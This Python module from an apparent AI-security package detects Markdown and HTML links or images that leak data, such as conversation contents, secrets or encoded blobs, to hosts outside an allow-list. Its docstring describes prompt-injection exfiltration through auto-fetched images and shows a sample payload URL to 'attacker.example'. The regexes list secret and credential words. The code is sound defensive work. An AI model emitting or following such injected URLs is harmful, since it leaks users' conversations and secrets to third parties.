"""Exfiltration shapes: links and images whose URL carries data to a host outside the allow-list.

A model that renders Markdown or HTML fetches images by itself, and an agent may follow links: an
injected ``![](https://attacker.example/log?d={conversation})`` or a link whose query string holds
an encoded blob sends data out. A URL counts when it sits in link / image syntax (Markdown inline,
reference definition, autolink, or an HTML ``src`` / ``href``-like attribute), its host is not
allowed, and it carries data: a template placeholder naming data (``{conversation}``, ``${SECRET}``,
``<chat history>``, ``[DATA]``; ``{id}`` in an API reference is not), an upper-case placeholder word in
a query value (``SYSTEM_PROMPT``), or a long encoded query / fragment value. Digests (32/40/56/64/96/128
hex characters) and the signature parameters of pre-signed URLs are not data.
"""

from __future__ import annotations

import fnmatch
import re
from collections.abc import Sequence
from urllib.parse import parse_qsl, unquote, urlsplit

from airflow_aisec.core.gates.prompt_injection._pattern import to_python, to_re2

# A placeholder may hold spaces ("{summary of the conversation}"): the model fills it in.
_URL = r"https?://(?:[^\s)>{]|\{[^}\n]{0,200}\})+"
_URL_TEMPLATES = (
    rf"\][ \t]*\([ \t]*<?({_URL})",
    rf"\]:[ \t]*<?({_URL})",
    r"<(https?://[^\s>]+)>",
    (r"(?:src|href|srcset|action|data|poster|background|formaction|ping)[ \t\r\n]*=[ \t\r\n]*"
     r"(?:\"(https?://[^\"]+)\"|'(https?://[^']+)'|(https?://[^\s>]+))"),
)
_URLS = [re.compile(to_python(t), re.IGNORECASE) for t in _URL_TEMPLATES]
#: RE2 anchors (the patterns themselves: ASCII classes, no boundaries).
ANCHORS: tuple[str, ...] = tuple(f"(?i:{to_re2(t)})" for t in _URL_TEMPLATES)

_PLACEHOLDER = re.compile(
    r"\{\{?[^{}]{1,80}\}\}?|\$\{?[A-Za-z_][A-Za-z0-9_]*|%[sd](?![0-9A-Fa-f])|<[A-Za-z_][^<>]{0,80}>"
    r"|\[[A-Z][A-Z0-9 _-]{2,40}\]")
_DATA_WORD = re.compile(
    r"secret|passw|prompt|history|conversation|chat|api_?key|token|context|memory|credential|data|e-?mail"
    r"|personal|ssn|summary|message|answer|response|instruction|system", re.IGNORECASE)
_PLACEHOLDER_WORD = re.compile(
    r"\b[A-Z0-9_]*(?:SECRET|PASSWORD|PASSWD|PROMPT|HISTORY|CONVERSATION|CHAT|API_?KEY|TOKEN|CONTEXT|MEMORY"
    r"|CREDENTIALS?|USER_?DATA|PERSONAL|SSN|EMAIL)[A-Z0-9_]*\b")
_ENCODED = re.compile(r"^[A-Za-z0-9+/=_.%\-]{32,}$")
_DIGEST = re.compile(r"^(?:[0-9a-fA-F]{32}|[0-9a-fA-F]{40}|[0-9a-fA-F]{56}|[0-9a-fA-F]{64}|[0-9a-fA-F]{96}"
                     r"|[0-9a-fA-F]{128})$")
_SIGNING_KEYS = re.compile(
    r"^(?:x-amz-.*|x-goog-.*|signature|sig|se|sp|sv|sr|st|skoid|sktid|skt|ske|sks|skv|sip|spr|policy"
    r"|key-pair-id|expires|utm_.*|fbclid|gclid|msclkid|integrity|hash|sha\d*|digest|etag|commit|rev|ref|v|ver"
    r"|version|id|uuid)$", re.IGNORECASE)


def _host_allowed(host: str, allowed: Sequence[str]) -> bool:
    return any(fnmatch.fnmatchcase(host, glob) for glob in allowed)


def _carries_data(key: str, value: str) -> bool:
    if not value:
        return False
    if _PLACEHOLDER_WORD.search(value):
        return True
    if _SIGNING_KEYS.match(key) or _DIGEST.match(value):
        return False
    if _ENCODED.match(value):
        has_letter = any(c.isalpha() for c in value)
        has_digit = any(c.isdigit() for c in value)
        return has_letter and has_digit
    return False


def url_exfiltrates(url: str, allowed_hosts: Sequence[str]) -> bool:
    """Whether one URL (from link / image syntax) carries data to a host outside ``allowed_hosts``."""
    try:
        parts = urlsplit(url)
        host = (parts.hostname or "").lower()
    except ValueError:
        return False
    if not host or _host_allowed(host, allowed_hosts):
        return False
    raw_query = unquote(parts.query)
    fragment = unquote(parts.fragment)
    path = unquote(parts.path)
    for part in (path, raw_query, fragment):
        for placeholder in _PLACEHOLDER.finditer(part):
            if _DATA_WORD.search(placeholder.group()):
                return True
    for key, value in parse_qsl(parts.query, keep_blank_values=True):
        if _carries_data(key, value):
            return True
    return _carries_data("#", fragment)


def exfiltration_url(text: str, allowed_hosts: Sequence[str]) -> bool:
    """A link / image in ``text`` whose URL carries data outside the allow-list."""
    for pattern in _URLS:
        for match in pattern.finditer(text):
            url = next(g for g in match.groups() if g)
            if url_exfiltrates(url, allowed_hosts):
                return True
    return False
